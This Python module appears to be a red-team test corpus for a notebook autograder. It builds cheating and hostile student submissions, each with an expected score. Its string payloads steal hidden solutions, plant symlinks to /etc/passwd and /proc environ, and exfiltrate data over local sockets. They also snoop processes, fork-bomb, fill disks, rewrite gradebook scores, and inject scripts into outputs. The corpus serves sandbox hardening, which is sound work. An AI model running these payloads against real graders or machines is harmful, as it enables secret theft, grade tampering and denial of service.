"""Submissions that try to break, stall or fool the grader, each with the score it must get.

Every case starts from the correct answers (the source notebooks' solutions)
and changes one thing, so the honest part of the submission is known exactly:
``score`` is what that honest part earns, and ``says`` is a phrase the student's
results must contain. Points: count 1, |W| 1, L2 cost 2, L2 backward 3,
dropout forward 3, dropout backward 3 (13 in all).

Sources may name things of the test's own that the grader must keep out of
reach: ``__SENTINEL_DIR__`` (a folder holding a secret file), ``__UDP_PORT__``,
``__TCP_PORT__``, ``__UNIX_SOCKET__`` (listeners of the test), ``__MARKER__``
(a string a left-behind process would carry in its command line).
"""

from __future__ import annotations

import copy
import json
import os
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

from grading.course.solutions import all_solution_cells

NB1, NB2, NB3 = "1_baseline.ipynb", "2_l2_regularization.ipynb", "3_dropout.ipynb"


@dataclass
class Case:
    name: str
    score: float
    says: str
    answers: dict[str, str] = field(default_factory=dict)  # grade_id -> answer cell source
    edit: object = None  # callable(notebooks: dict[name, NotebookNode]) -> None
    raw: dict[str, str] = field(default_factory=dict)  # file name -> raw text replacing the notebook
    drop: tuple[str, ...] = ()  # notebooks left out
    extra: dict[str, str] = field(default_factory=dict)  # extra files: name -> text
    special: object = None  # callable(folder: Path, sources: Path) -> None, after the notebooks are written
    xfail: str = ""  # why the grader cannot give the honest score yet (shown in every run)


WRONG_COUNT = "def count_parameters(layer_dims):\n    return 0\n"
WRONG_COST = "def compute_cost_with_regularization(A3, Y, parameters, lambd):\n    return 0.5\n"


def _cell(nbs, notebook, grade_id):
    return next(c for c in nbs[notebook].cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def _delete(notebook, grade_id):
    def edit(nbs):
        nbs[notebook].cells.remove(_cell(nbs, notebook, grade_id))
    return edit


def _duplicate(notebook, grade_id):
    def edit(nbs):
        cell = _cell(nbs, notebook, grade_id)
        nbs[notebook].cells.insert(nbs[notebook].cells.index(cell) + 1, copy.deepcopy(cell))
    return edit


def _rewrite_test(nbs):
    _cell(nbs, NB1, "count_parameters_tests").source = "pass  # nothing to see here"


def _points(nbs):
    _cell(nbs, NB1, "count_parameters_tests").metadata["nbgrader"]["points"] = 100


def _invent_test(nbs):
    bonus = nbformat.v4.new_code_cell("assert True")
    bonus.metadata["nbgrader"] = {"grade": True, "grade_id": "bonus", "locked": True, "points": 50,
                                  "solution": False, "schema_version": 3}
    nbs[NB1].cells.append(bonus)


def _retype(nbs):
    cell = _cell(nbs, NB2, "compute_cost_with_regularization_tests")
    cell.cell_type = "markdown"
    cell.pop("outputs", None)
    cell.pop("execution_count", None)


# -- helpers of the red-team cases ---------------------------------------------------------------

STEAL = """
import json as _json, os as _os, pathlib as _pl, reg_utils as _ru
def _steal(name):
    # Look where a grader's files usually are: the working folder and its parents, /tmp, the repository.
    roots = [_pl.Path.cwd(), *_pl.Path.cwd().parents, _pl.Path('/tmp'), _pl.Path(_ru.__file__).resolve().parents[1]]
    for root in roots:
        try:
            found = list(root.glob('*.ipynb')) + list(root.glob('*/*.ipynb')) + list(root.glob('*/*/*.ipynb'))
        except OSError:
            continue
        for path in found[:200]:
            try:
                cells = _json.loads(path.read_text())['cells']
            except Exception:
                continue
            for cell in cells:
                src = ''.join(cell.get('source', ''))
                if 'def ' + name + '(' in src and 'BEGIN SOLUTION' in src:
                    ns = {}
                    exec('import numpy as np\\nfrom reg_utils import *\\n' + src, ns)
                    return ns[name]
    print('nothing to steal for', name)
    return None
"""


def _link_to_sources(folder, sources):
    for notebook in folder.glob("*.ipynb"):
        notebook.unlink()
        notebook.symlink_to(sources / notebook.name)


def _fifo(folder, sources):
    (folder / NB1).unlink()
    os.mkfifo(folder / NB1)


def _huge(folder, sources):
    (folder / NB1).write_text('{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5, "pad": "'
                              + "x" * (17 * 1024 * 1024) + '"}')


def _delete_markdown_and_move(nbs):
    nb = nbs[NB1]
    first_markdown = next(c for c in nb.cells if c.cell_type == "markdown")
    nb.cells.remove(first_markdown)
    nb.cells.insert(2, nbformat.v4.new_code_cell("scratch = 1 + 1"))
    nb.cells.append(nbformat.v4.new_markdown_cell("My own notes."))
    nb.cells.append(nbformat.v4.new_code_cell("print('extra cell at the end')"))


def _malformed_metadata(nbs):
    ungraded = [c for c in nbs[NB2].cells if "nbgrader" not in c.metadata]
    ungraded[0].metadata["nbgrader"] = "str"
    ungraded[1].metadata["nbgrader"] = {}
    ungraded[2].metadata["nbgrader"] = {"grade": "yes please"}


def _editor_leftovers(nbs):
    for cell in nbs[NB3].cells:
        cell.metadata["collapsed"] = False
        cell.metadata["tags"] = ["my-tag"]
        cell.metadata.setdefault("jupyter", {})["source_hidden"] = False
        if cell.cell_type == "code":
            cell.outputs = [nbformat.v4.new_output("stream", name="stdout", text="saved output\n")]
            cell.execution_count = 7
    nbs[NB3].metadata["widgets"] = {"state": {}}


def _script_markdown(nbs):
    nbs[NB1].cells.append(nbformat.v4.new_markdown_cell(
        "<script>alert('md')</script><img src=x onerror=\"alert('md')\"><a href=\"javascript:alert(1)\">x</a>"))


def _exception_flood(nbs):
    nbs[NB1].cells.append(nbformat.v4.new_code_cell("raise ValueError('y' * 30_000_000)"))


MUTATING_COST = (
    "def compute_cost_with_regularization(A3, Y, parameters, lambd):\n"
    "    m = Y.shape[1]\n"
    "    W = [parameters[k] for k in ('W1', 'W2', 'W3')]\n"
    "    cost = compute_cost(A3, Y) + lambd / (2 * m) * sum(np.sum(np.square(w)) for w in W)\n"
    "    for w in W:\n"
    "        w *= 0.0  # 'cleans up' the caller's weights\n"
    "    return cost\n")

PLANT_LINKS = (
    "import os\n"
    "for _target, _name in [('/etc/passwd', 'passwd'), ('../../gradebook.db', 'gradebook.db'), ('/tmp', 'tmp'),\n"
    "                       ('__SENTINEL_DIR__/secret.txt', 'secret.txt'), ('__SENTINEL_DIR__', 'runs'),\n"
    "                       ('/proc/1/environ', '1_baseline.ipynb'), ('/dev/zero', 'feedback.html')]:\n"
    "    try:\n        os.symlink(_target, _name)\n    except OSError as _exc:\n        print('link', _name, _exc)\n"
    "os.mkfifo('reply.json')\n"
    "open('.reglab-answer-0.json', 'w').write('{}')\n\n")

WRITE_EVERYWHERE = (
    "import os, pathlib\n"
    "for _path in ['__SENTINEL_DIR__/pwned', '/tmp/../__SENTINEL_DIR__/pwned2', '../pwned', '../../pwned',\n"
    "              '/dev/shm/pwned', '/dev/pwned', '/opt/reglab/guest/pwned.py', '/usr/pwned']:\n"
    "    try:\n        pathlib.Path(_path).write_text('pwned')\n        print('WROTE', _path)\n"
    "    except OSError as _exc:\n        print('blocked', _path, type(_exc).__name__)\n"
    "for _path in ['__SENTINEL_DIR__/secret.txt']:\n"
    "    try:\n        os.chmod(_path, 0o777)\n        print('CHMOD', _path)\n"
    "    except OSError as _exc:\n        print('blocked chmod', type(_exc).__name__)\n"
    "    try:\n        print('READ', open(_path).read())\n"
    "    except OSError as _exc:\n        print('blocked read', type(_exc).__name__)\n\n")

NETWORK = (
    "import socket\n"
    "for _family, _host in [(socket.AF_INET, '127.0.0.1'), (socket.AF_INET6, '::1')]:\n"
    "    try:\n"
    "        _s = socket.socket(_family, socket.SOCK_DGRAM)\n"
    "        _s.sendto(b'hidden tests: exfiltrated', (_host, __UDP_PORT__))\n"
    "        print('SENT udp', _host)\n"
    "    except OSError as _exc:\n        print('blocked udp', _host, type(_exc).__name__)\n"
    "    try:\n"
    "        socket.create_connection((_host, __TCP_PORT__), timeout=2).sendall(b'tcp exfiltrated')\n"
    "        print('SENT tcp', _host)\n"
    "    except OSError as _exc:\n        print('blocked tcp', _host, type(_exc).__name__)\n"
    "try:\n"
    "    _u = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)\n"
    "    _u.sendto(b'unix exfiltrated', '__UNIX_SOCKET__')\n"
    "    print('SENT unix')\n"
    "except OSError as _exc:\n    print('blocked unix', type(_exc).__name__)\n\n")

PROC_SNOOP = (
    "import glob\n"
    "_seen = []\n"
    "for _path in glob.glob('/proc/*/environ') + glob.glob('/proc/*/cmdline'):\n"
    "    try:\n        _seen.append(open(_path, 'rb').read().decode(errors='replace'))\n"
    "    except OSError:\n        pass\n"
    "print('\\n'.join(_seen)[:5000])\n\n")

DAEMON = (
    "import subprocess, sys\n"
    "subprocess.Popen([sys.executable, '-c', 'import os, time\\nos.setsid()\\nif os.fork() == 0:\\n'\n"
    "                  '    time.sleep(600)  # __MARKER__\\n'])\n\n")

FORKED_MEMORY = (
    "import os, time\n"
    "_kids = []\n"
    "for _ in range(3):\n"
    "    _pid = os.fork()\n"
    "    if _pid == 0:\n"
    "        try:\n            _block = bytearray(900 * 1024 * 1024)\n            time.sleep(20)\n"
    "        finally:\n            os._exit(0)\n"
    "    _kids.append(_pid)\n"
    "time.sleep(4)\n"
    "_alive = sum(1 for _pid in _kids if os.waitpid(_pid, os.WNOHANG) == (0, 0))\n"
    "print('children holding 900 MB after 4 s:', _alive)\n"
    "for _pid in _kids:\n"
    "    try:\n        os.kill(_pid, 9)\n    except OSError:\n        pass\n\n")

FORK_BOMB = (
    "import os, time\n"
    "_kids = []\n"
    "for _ in range(400):\n"
    "    try:\n        _pid = os.fork()\n"
    "    except OSError:\n        break\n"
    "    if _pid == 0:\n        time.sleep(30)\n        os._exit(0)\n"
    "    _kids.append(_pid)\n"
    "print('forked children:', len(_kids))\n"
    "for _pid in _kids:\n    os.kill(_pid, 9)\n    os.waitpid(_pid, 0)\n\n")

DISK_FILL = (
    "import os\n"
    "for _where in ('/tmp/fill', os.path.expanduser('~/fill'), 'fill'):\n"
    "    _written = 0\n"
    "    try:\n"
    "        with open(_where, 'wb') as _f:\n"
    "            for _ in range(1200):\n                _f.write(b'z' * 1024 * 1024)\n                _written += 1\n"
    "    except OSError as _exc:\n        print('stopped', type(_exc).__name__)\n"
    "    print('wrote MB:', _written)\n"
    "    try:\n        os.remove(_where)\n    except OSError:\n        pass\n\n")

DISPLAY_FLOOD = (
    "from IPython.display import HTML, display\n"
    "display(HTML('<b>' + 'x' * 30_000_000 + '</b>'))\n"
    "display({'text/plain': 'y' * 30_000_000}, raw=True)\n\n")

SCRIPTS = (
    "from IPython.display import HTML, Javascript, display\n"
    "display(HTML(\"<script>alert('out')</script><img src=x onerror=\\\"alert('out')\\\">\"))\n"
    "display(Javascript(\"alert('js')\"))\n\n")


CASES = [
    Case("syntax-error", 12, "not defined", {"count_parameters": "def count_parameters(layer_dims)\n    return 1\n"}),
    Case("name-error", 11, "NameError", {"compute_cost_with_regularization":
         "def compute_cost_with_regularization(A3, Y, parameters, lambd):\n    return undefined_thing\n"}),
    Case("exception-at-import", 12, "not defined",
         {"count_parameters": "import not_a_real_module\n\ndef count_parameters(layer_dims):\n    return 0\n"}),
    Case("infinite-loop", 12, "not defined", {"mean_abs_weights": "while True:\n    pass\n"}),
    Case("loop-inside-function", 12, "longer than", {"count_parameters":
         "def count_parameters(layer_dims):\n    while True:\n        pass\n"}),
    Case("memory-bomb", 10, "kernel died", {"backward_propagation_with_dropout":
         "hoard = []\nwhile True:\n    hoard.append(bytearray(50_000_000))\n"}),
    Case("sys-exit", 12, "SystemExit", {"count_parameters":
         "import sys\n\ndef count_parameters(layer_dims):\n    sys.exit(3)\n"}),
    Case("os-exit", 8, "kernel died", {"compute_cost_with_regularization": "import os\nos._exit(0)\n"}),
    Case("kill-own-kernel", 7, "kernel died", {"forward_propagation_with_dropout":
         "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\n"}),
    Case("print-flood", 13, "", {"mean_abs_weights": "print('x' * 100_000_000)\n" + "__MEAN_ABS__"}),
    Case("deleted-test-cell", 13, "was deleted", edit=_delete(NB1, "count_parameters_tests")),
    Case("deleted-answer-cell", 12, "was deleted", edit=_delete(NB1, "count_parameters")),
    Case("duplicated-test-cell", 13, "more than once", edit=_duplicate(NB2, "compute_cost_with_regularization_tests")),
    Case("edited-locked-test", 12, "was edited", {"count_parameters": WRONG_COUNT}, edit=_rewrite_test),
    Case("changed-points", 13, "metadata", edit=_points),
    Case("invented-test-cell", 13, "does not have", edit=_invent_test),
    Case("test-cell-turned-markdown", 13, "markdown", edit=_retype),
    Case("patched-allclose", 10, "wrong shape", {"backward_propagation_with_regularization":
         "np.allclose = lambda *a, **k: True\nnp.array_equal = lambda *a, **k: True\n\n"
         "def backward_propagation_with_regularization(X, Y, cache, lambd):\n"
         "    return {k: np.zeros((1, 1)) for k in ('dW1', 'db1', 'dW2', 'db2', 'dW3', 'db3')}\n"}),
    Case("patched-np-testing", 10, "hidden case", {"forward_propagation_with_dropout":
         "np.testing.assert_allclose = lambda *a, **k: None\nnp.testing.assert_array_equal = lambda *a, **k: None\n\n"
         "def forward_propagation_with_dropout(X, parameters, keep_prob=0.5):\n"
         "    return forward_propagation(X, parameters)[0], tuple(np.ones((3, 8)) for _ in range(14))\n"}),
    Case("patched-assertion-and-builtins", 11, "cost", {"compute_cost_with_regularization":
         "import builtins\nclass Quiet(Exception):\n    pass\nbuiltins.AssertionError = Quiet\n"
         "builtins.abs = lambda x: 0.0\nbuiltins.float = lambda x: 1.7864859451590758\n\n" + WRONG_COST}),
    Case("patched-public-tests", 12, "(got 0)", {"count_parameters":
         "import public_tests, testCases\npublic_tests.count_parameters_test = lambda *a, **k: None\n"
         "testCases.__dict__.clear()\n\n" + WRONG_COUNT}),
    Case("always-equal-object", 12, "not plain data", {"count_parameters":
         "class AlwaysEqual(int):\n    def __eq__(self, other):\n        return True\n    __hash__ = int.__hash__\n\n"
         "class Cheat:\n    def __eq__(self, other):\n        return True\n\n"
         "def count_parameters(layer_dims):\n    return Cheat()\n"}),
    Case("published-numbers", 8, "hidden case", {
        "compute_cost_with_regularization": "def compute_cost_with_regularization(A3, Y, parameters, lambd):\n"
                                            "    return 1.7864859451590758\n",
        "forward_propagation_with_dropout": "def forward_propagation_with_dropout(X, parameters, keep_prob=0.5):\n"
        "    A3 = np.array([[0.36974721, 0.00305176, 0.04565099, 0.49683389, 0.36974721]])\n"
        "    return A3, tuple(np.zeros((1, 1)) for _ in range(14))\n"}),
    Case("reads-sources", 12, "FileNotFoundError", {"count_parameters":
         "import json, pathlib, reg_utils\n"
         "_root = pathlib.Path(reg_utils.__file__).resolve().parents[1]\n"
         "def count_parameters(layer_dims):\n"
         "    json.loads((_root / 'notebooks' / 'regularization' / '1_baseline.ipynb').read_text())\n"
         "    return 0\n"}),
    Case("writes-gradebook", 13, "", {"mean_abs_weights":
         "import glob, sqlite3\nfor _path in glob.glob('/tmp/**/gradebook.db', recursive=True)[:20]:\n"
         "    try:\n        sqlite3.connect(_path).execute('update grade set auto_score = 99')\n"
         "    except Exception as _exc:\n        print('blocked:', type(_exc).__name__)\n"
         "for _up in ('../gradebook.db', '../../gradebook.db', '../../../gradebook.db', '../../../../gradebook.db'):\n"
         "    try:\n        _db = sqlite3.connect(_up)\n        _db.execute('update grade set auto_score = 99')\n"
         "        _db.commit()\n    except Exception as _exc:\n        print('blocked:', type(_exc).__name__)\n\n"
         "__MEAN_ABS__"}),
    Case("invalid-json", 7, "not a valid notebook", raw={NB3: '{"cells": [ this is not json'}),
    Case("missing-notebook", 8, "was not submitted", drop=(NB2,)),
    Case("extra-notebook", 13, "extra notebook", extra={"my_notes.ipynb": "{}"}),
    # -- earned points without a correct answer (the red team's first findings) --
    Case("hunts-hidden-tests", 9, "", {
        "count_parameters": STEAL + "_f = _steal('count_parameters')\n\ndef count_parameters(layer_dims):\n"
                            "    return _f(layer_dims) if _f else 0\n",
        "mean_abs_weights": STEAL + "_g = _steal('mean_abs_weights')\n\ndef mean_abs_weights(parameters):\n"
                            "    return _g(parameters) if _g else {'W1': 0.0, 'W2': 0.0, 'W3': 0.0}\n",
        "compute_cost_with_regularization": STEAL + "_h = _steal('compute_cost_with_regularization')\n\n"
                            "def compute_cost_with_regularization(A3, Y, parameters, lambd):\n"
                            "    return _h(A3, Y, parameters, lambd) if _h else 0.5\n"}),
    Case("symlinked-notebooks", 0, "symbolic link", special=_link_to_sources),
    Case("mutates-inputs", 11, "modified its input in place", {"compute_cost_with_regularization": MUTATING_COST}),
    Case("fifo-notebook", 11, "not a regular file", special=_fifo),
    Case("huge-notebook", 11, "larger than", special=_huge),
    # -- turned against the grader or the class --
    Case("plants-symlinks", 13, "", {"count_parameters": PLANT_LINKS + "__COUNT__"}),
    Case("writes-everywhere", 13, "", {"count_parameters": WRITE_EVERYWHERE + "__COUNT__"}),
    Case("network-exfiltration", 13, "", {"count_parameters": NETWORK + "__COUNT__"}),
    Case("proc-snoop", 13, "", {"count_parameters": PROC_SNOOP + "__COUNT__"}),
    Case("daemon", 13, "", {"count_parameters": DAEMON + "__COUNT__"}),
    Case("forked-memory", 13, "", {"mean_abs_weights": FORKED_MEMORY + "__MEAN_ABS__"}),
    Case("fork-bomb", 13, "", {"count_parameters": FORK_BOMB + "__COUNT__"}),
    Case("disk-filler", 13, "", {"count_parameters": DISK_FILL + "__COUNT__"}),
    Case("display-flood", 13, "", {"count_parameters": DISPLAY_FLOOD + "__COUNT__"},
         edit=_exception_flood),
    Case("scripts-in-outputs", 13, "", {"count_parameters": SCRIPTS + "__COUNT__"}, edit=_script_markdown),
    # -- honest students keep every point --
    Case("moved-and-deleted-ungraded-cells", 13, "", edit=_delete_markdown_and_move),
    Case("malformed-ungraded-metadata", 13, "", edit=_malformed_metadata),
    Case("hidden-marker-in-a-comment", 13, "", {"count_parameters": "# ### BEGIN HIDDEN TESTS (my notes)\n"
                                                                     "__COUNT__"}),
    Case("editor-leftovers-and-saved-outputs", 13, "", edit=_editor_leftovers),
]


#: A folder whose name is not a student id: skipped, with a reason.
BAD_FOLDER = "bad name!"
#: A symbolic link to a classmate's folder: skipped, with a reason.
LINKED_FOLDER = "mallory"


def build_corpus(release: Path, out: Path, sources: Path, subs: dict[str, str] | None = None) -> dict[str, Case]:
    """Write every case under ``out/<case>/regularization/`` from the release in ``release``.

    ``sources``: the source notebooks (what a symlinking student points at);
    ``subs``: the test's own names for ``__SENTINEL_DIR__`` and the other placeholders.
    """
    correct = all_solution_cells("regularization")
    subs = dict(subs or {})
    subs.setdefault("__MARKER__", "reglab-corpus-daemon")
    for case in CASES:
        answers = {**correct}
        for grade_id, source in case.answers.items():
            source = source.replace("__MEAN_ABS__", correct["mean_abs_weights"])
            source = source.replace("__COUNT__", correct["count_parameters"])
            for key, value in subs.items():
                source = source.replace(key, value)
            answers[grade_id] = source
        nbs = {}
        for path in sorted(release.glob("*.ipynb")):
            nb = nbformat.read(path, as_version=4)
            for cell in nb.cells:
                meta = cell.metadata.get("nbgrader", {})
                if meta.get("solution") and meta.get("grade_id") in answers:
                    cell.source = answers[meta["grade_id"]].strip("\n")
            nbs[path.name] = nb
        if case.edit:
            case.edit(nbs)
        folder = out / case.name / "regularization"
        folder.mkdir(parents=True, exist_ok=True)
        for name, nb in nbs.items():
            if name in case.drop:
                continue
            if name in case.raw:
                (folder / name).write_text(case.raw[name])
            else:
                # Written as edited: nbformat.write would silently repair what a hostile file keeps
                # (a duplicated cell's repeated id, for one).
                (folder / name).write_text(json.dumps(nb, indent=1, sort_keys=True, ensure_ascii=False) + "\n")
        for name, text in case.extra.items():
            (folder / name).write_text(text)
        if case.special:
            case.special(folder, sources)
    bad = out / BAD_FOLDER / "regularization"
    bad.mkdir(parents=True, exist_ok=True)
    # A "student" who is a link to a classmate's folder: refused, never graded as either.
    (out / LINKED_FOLDER).symlink_to(out / "syntax-error")
    return {case.name: case for case in CASES}
